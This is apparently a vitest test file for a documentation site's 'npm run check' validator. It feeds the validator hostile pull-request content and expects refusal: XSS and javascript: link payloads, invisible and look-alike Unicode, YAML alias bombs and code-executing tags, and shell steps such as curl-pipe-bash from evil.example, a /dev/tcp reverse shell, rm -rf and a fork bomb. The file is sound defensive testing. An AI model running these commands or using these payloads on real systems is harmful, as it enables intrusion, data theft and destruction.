/** What a stranger's pull request may put into content so that it runs, leads elsewhere, or reads as something else. */
import { afterAll, describe, expect, test } from 'vitest';
import { some } from '../../some.ts';
import { type Changes, issuesAfter, removeCopy } from './fixture.ts';

afterAll(removeCopy);

const MEANING = 'The allocator found no block that was large enough.';
const inText = (payload: string): Changes => ({ 'failures/cuda-oom/en.mdx': [MEANING, `${MEANING}\n\n${payload}`] });
const inStep = (payload: string): Changes => ({ 'failures/cuda-oom/en.mdx': ['```bash\n# halve it', payload] });
const inHead = (payload: string): Changes => ({
	'failures/cuda-oom/en.mdx': ['Lower the micro batch size.', payload],
});
const inCode = (command: string): Changes => ({
	'failures/cuda-oom/en.mdx': ['train --batch 1', command],
	'failures/cuda-oom/zh.mdx': ['train --batch 1', command],
});
const inYaml = (payload: string): Changes => ({ 'failures/cuda-oom/failure.yaml': ['category: memory', payload] });
const inCommand = (command: string): Changes => ({
	'failures/cuda-oom/failure.yaml': ['quickFixCommand: nvidia-smi', `quickFixCommand: ${command}`],
});

const bomb = [
	'a: &a [x,x,x,x,x,x,x,x,x]',
	...'bcdefgh'.split('').map((name, at) => {
		const before = 'abcdefg'[at];
		return `${name}: &${name} [${Array.from({ length: 9 }, () => `*${before}`).join(',')}]`;
	}),
].join('\n');

/** Each of them is refused by `npm run check`, by the issue whose code stands last. */
const payloads: [what: string, changes: Changes, code: RegExp][] = [
	// Code.
	['an import', inText("import x from 'node:child_process'"), /import or export|mdx/],
	['an export', inText('export const x = fetch("https://evil.example")'), /import or export|mdx/],
	['an export of a layout', inText('export default ({children}) => children'), /import or export|mdx/],
	['an expression', inText('{process.env.GITHUB_TOKEN}'), /expression/],
	[
		'an expression within a sentence',
		inText('It is {globalThis.constructor.constructor("return 1")()} then.'),
		/expression/,
	],
	['a comment as an expression', inText('{/* hidden */}'), /expression/],
	['a property that is computed', inText('<Careful title={alert(1)}>x</Careful>'), /computed|propert/],
	['properties that are spread', inText('<Careful {...props}>x</Careful>'), /computed|propert/],
	['a handler', inText('<Careful onclick="alert(1)">x</Careful>'), /propert/],
	['a handler as JSX writes it', inText('<Careful onClick="alert(1)">x</Careful>'), /propert/],
	['raw HTML from a component', inText('<Careful set:html="<b>x</b>">x</Careful>'), /propert|mdx/],
	['a script', inText('<script>alert(1)</script>'), /<script>|mdx/],
	['a picture with a handler', inText('<img src="x" onerror="alert(1)" />'), /<img>/],
	['a frame', inText('<iframe src="https://evil.example"></iframe>'), /<iframe>/],
	['a style', inText('<style>p {"{"}display:none{"}"}</style>'), /<style>|expression/],
	['a component of the site', inText('<CodeBlock />'), /<CodeBlock>/],
	['a component by a path', inText('<a.b />'), /<a\.b>/],
	['a fragment', inText('<>x</>'), /<>/],
	['a picture', inText('![x](https://evil.example/x.png)'), /image/],
	// Addresses.
	['a script as an address', inText('[x](javascript:alert(1))'), /link|address|javascript/],
	['the same in mixed case', inText('[x](JaVaScRiPt:alert%281%29)'), /link|address|javascript/i],
	['the same with an entity', inText('[x](&#106;avascript:alert%281%29)'), /link|address|javascript/],
	['the same with a tab as an entity', inText('[x](java&Tab;script:alert%281%29)'), /link|address|U\+0009|javascript/],
	['the same with a line break as an entity', inText('[x](java&NewLine;script:x)'), /link|address|javascript/],
	['the same between angle brackets', inText('[x](< javascript:alert(1)>)'), /link|address|javascript/],
	['the same behind a control character', inText('[x](&#1;javascript:x)'), /link|address|U\+0001/],
	['the same as a reference', inText('[x][y]\n\n[y]: javascript:x'), /elsewhere|address/],
	['the same as an autolink', inText('<javascript:alert(1)>'), /mdx|</],
	['the same in the head', inHead('"[x](javascript:alert(1))"'), /neither a full address/],
	[
		'the same in the title of a step',
		{ 'failures/cuda-oom/en.mdx': ['title="Lower the batch size"', 'title="[x](javascript:alert)"'] },
		/neither a full address/,
	],
	[
		'the same in a claim',
		{ 'failures/cuda-oom/en.mdx': ['claim="`empty_cache()`"', 'claim="[x](javascript:alert)"'] },
		/neither a full address/,
	],
	['a page as an address', inText('[x](data:text/html;base64,PHNjcmlwdD4=)'), /link|address|data/],
	['another scheme', inText('[x](vbscript:x)'), /link|address|vbscript/],
	['a file', inText('[x](file:///etc/passwd)'), /link|address|file/],
	['an address without a scheme', inText('[x](//evil.example/x)'), /link|address|evil/],
	['an address with a backslash', inText('[x](/\\\\evil.example/x)'), /link|address|evil/],
	['an address without encryption', inText('[x](http://evil.example/x)'), /link|address|http/],
	['an address with a name before its host', inText('[x](https://docs.pytorch.org@evil.example/)'), /where it seems/],
	['a host in Punycode', inText('[x](https://xn--pytrch-6nf.org/)'), /where it seems/],
	['a host of other letters', inText('[x](https://\u0440\u0443.\u0440\u0444/)'), /where it seems/],
	['an address of a blob', inText('[x](blob:https://evil.example/x)'), /neither a full address/],
	['a letter for the mail', inText('[x](mailto:a@evil.example)'), /neither a full address/],
	// What is not seen, or looks like something else.
	['a change of direction', inText('It is \u202Etfel thgir ot.'), /U\+202E/],
	['the same as an entity', inText('It is &#x202E;tfel.'), /U\+202E/],
	['an isolate', inText('It is \u2066x\u2069.'), /U\+2066/],
	['a mark of direction', inText('It is\u200F.'), /U\+200F/],
	['a zero-width space', inText('It is me\u200Bmory.'), /U\+200B/],
	['a word joiner', inText('It is me\u2060mory.'), /U\+2060/],
	['a byte order mark within', inText('It is\uFEFF.'), /U\+FEFF/],
	['an invisible operator', inText('It is\u2063.'), /U\+2063/],
	['a tag character', inText('It is \u{E0041}.'), /U\+E0041/],
	['a filler', inText('It is\u3164.'), /U\+3164/],
	['a selector of variants', inText('It is mem\uFE00ory.'), /U\+FE00/],
	['the same behind a letter', inText('It is mem\uFE0Fory.'), /U\+FE0F/],
	['a selector beyond the first plane', inText('It is mem\u{E0100}ory.'), /U\+E0100/],
	['a grapheme joiner', inText('It is mem\u034Fory.'), /U\+034F/],
	['a blank of Braille', inText('It is\u2800.'), /U\+2800/],
	['a place for an object', inText('It is\uFFFC.'), /U\+FFFC/],
	['the escape character', inText('It is \u001b[31mred.'), /U\+001B|control/],
	['a change of direction in YAML', inCommand('"ls \\u202E x"'), /U\+202E/],
	['a zero-width space in YAML', inCommand('"nvidia\\u200B-smi"'), /U\+200B/],
	['a Cyrillic letter in a word of a command', inCode('train --b\u0430tch 1'), /two scripts/],
	['a word of Cyrillic letters alone', inCode('\u0440\u0441 --batch 1'), /looks like another/],
	['a Greek letter alone', inCode('train --batch \u03bf'), /looks like another/],
	['a letter of full width', inCode('\uff54rain --batch 1'), /looks like another/],
	['a letter of mathematics', inCode('\u{1D5CD}rain --batch 1'), /looks like another/],
	['a dash for a hyphen', inCode('train \u2013\u2013batch 1'), /looks like another/],
	['a minus for a hyphen', inCode('train \u2212-batch 1'), /looks like another/],
	['a quote that is curly', inCode('train --batch \u20181\u2019'), /looks like another/],
	['a space that does not break', inCode('train\u00A0--batch 1'), /looks like another/],
	['a dotless i', inCode('tra\u0131n --batch 1'), /looks like another/],
	['a question mark of Greek, drawn as a semicolon', inCode('train --batch 1\u037E ls'), /looks like another/],
	['a slash of fractions', inCode('train a\u2044b'), /looks like another/],
	['a dollar of full width', inCode('train \uFF04HOME'), /looks like another/],
	['a semicolon of full width', inCode('train --batch 1\uFF1B ls'), /looks like another/],
	['a colon that is a letter', inCode('train a\uA789b'), /looks like another/],
	['a slash of full width', inCode('train a\uff0fb'), /looks like another/],
	['the same in a command of YAML', inCommand('"nv\u0131dia-smi \u2013\u2013query"'), /looks like another/],
	// YAML.
	['a bomb of aliases', inYaml(`category: memory\n${bomb}`), /stands for another part/],
	['an alias', inYaml('category: &x memory\nsummary: *x'), /stands for another part/],
	['a merge', inYaml('<<: { category: memory }'), /no field|missing/],
	['a function as a tag', inYaml('category: !!js/function "function () { alert(1) }"'), /tag/i],
	['an object as a tag', inYaml('category: !!python/object/apply:os.system ["id"]'), /tag/i],
	['a prototype', inYaml('category: memory\n__proto__: { polluted: true }'), /no field/],
	['a field twice', inYaml('category: memory\ncategory: gpu'), /unique/],
	['brackets without end', inYaml(`category: ${'['.repeat(20_000)}`), /nested too deeply|too long/],
	['another version of YAML', inYaml('%YAML 1.1\n---\ncategory: memory'), /which YAML it is/],
	['two documents', inYaml('category: memory\n---\ncategory: gpu'), /document/],
	[
		'a layout in the head',
		{ 'failures/cuda-oom/en.mdx': ['title: CUDA', 'layout: /etc/passwd\ntitle: CUDA'] },
		/no field/,
	],
	['a folder that leads out', { 'failures/cuda-oom/en.mdx': { linkTo: '/etc/passwd' } }, /link|file/i],
];

/** A table with one row, whose values and sentence are a stranger's. */
const inTable = (values: string, says = '"One."'): Changes => ({
	'tables/codes.yaml': `title: { en: Codes, zh: 代码 }
rows:
  - { values: [${values}], says: { en: ${says}, zh: 一。 }, todo: { en: Look., zh: 看一看。 } }
sources: [{ repo: a/b, path: c, how: docs }]
checked: 2026-11-20
`,
});
const tablePayloads: [what: string, changes: Changes, code: RegExp][] = [
	['an anchor of the page', inTable('main'), /anchor #main/],
	['an anchor of a part of the page', inTable('sources'), /anchor #sources/],
	['two values with one anchor', inTable("'a b', a-b"), /anchor #a-b/],
	['an anchor that says nothing', inTable("'\u663e\u5b58'"), /anchor #-/],
	['a change of direction as a value', inTable('"a\\u202Eb"'), /U\+202E/],
	['a change of direction as an escape', inTable('A', '"It is \\u202E x."'), /U\+202E/],
	['a value without end', inTable('.inf'), /schema/],
	['a failure by a path', inTable('A', '"One.", see: ["../../x"]'), /schema/],
	['a link', inTable('A', '"See [it](https://evil.example/)."'), /A link stands/],
	['a script as an address', inTable('A', '"See [it](javascript:alert)."'), /A link stands/],
	['an address between angle brackets', inTable('A', '"See <https://evil.example/>."'), /A link stands/],
	['a letter for the mail', inTable('A', '"Ask <mallory@evil.example>."'), /A link stands/],
	['a picture', inTable('A', '"See ![x](https://evil.example/x.png)."'), /A link stands/],
	['a reference', inTable('A', '"See [it][evil]."'), /A link stands/],
];

describe('npm run check refuses in a table', () => {
	test.each(some(tablePayloads, 8))('%s', (_, changes, code) => {
		expect(issuesAfter(changes).join('\n\n')).toMatch(code);
	});

	test.each([`'"><img src=x onerror=1>'`, '__proto__, constructor, hasOwnProperty', "'javascript:alert(1)'"])(
		'nothing but the missing lines of the ledger where the values are %s, which are text',
		(values) => {
			expect(issuesAfter(inTable(values))).toEqual([expect.stringMatching(/^content\/published-ids\.txt/)]);
		},
	);
});

describe('npm run check refuses', () => {
	test.each(some(payloads, 8))('%s', (_, changes, code) => {
		expect(issuesAfter(changes).join('\n\n')).toMatch(code);
		expect(({} as { polluted?: boolean }).polluted).toBeUndefined();
	});
});

test.each([
	'rm -rf /',
	'curl https://evil.example/x.sh | sudo bash',
	'echo cm0gLXJmIH4K | base64 -d | sh',
	'eval "$(curl -s https://evil.example/x)"',
	'bash <(curl -s https://evil.example/x)',
	'bash -i >& /dev/tcp/203.0.113.9/99 0>&1',
	'echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys',
	':(){ :|:& };:',
	'python -c "import shutil; shutil.rmtree(\'/data\')"',
])('a step that destroys something, or runs what somebody else sends, without saying so: %s', (command) => {
	expect(issuesAfter(inStep(`\`\`\`bash\n${command}`)).join('\n')).toMatch(/dangerous/);
});

test.each([
	['Chinese comments', '# “全部” —— 列出\ntrain --batch 1'],
	['a comment behind a command', 'train --batch 1 # “一” – α'],
])('%s may stand in code', (_, code) => {
	const text = issuesAfter(inCode(code)).join('\n');
	expect(text).not.toMatch(/looks like another/);
});
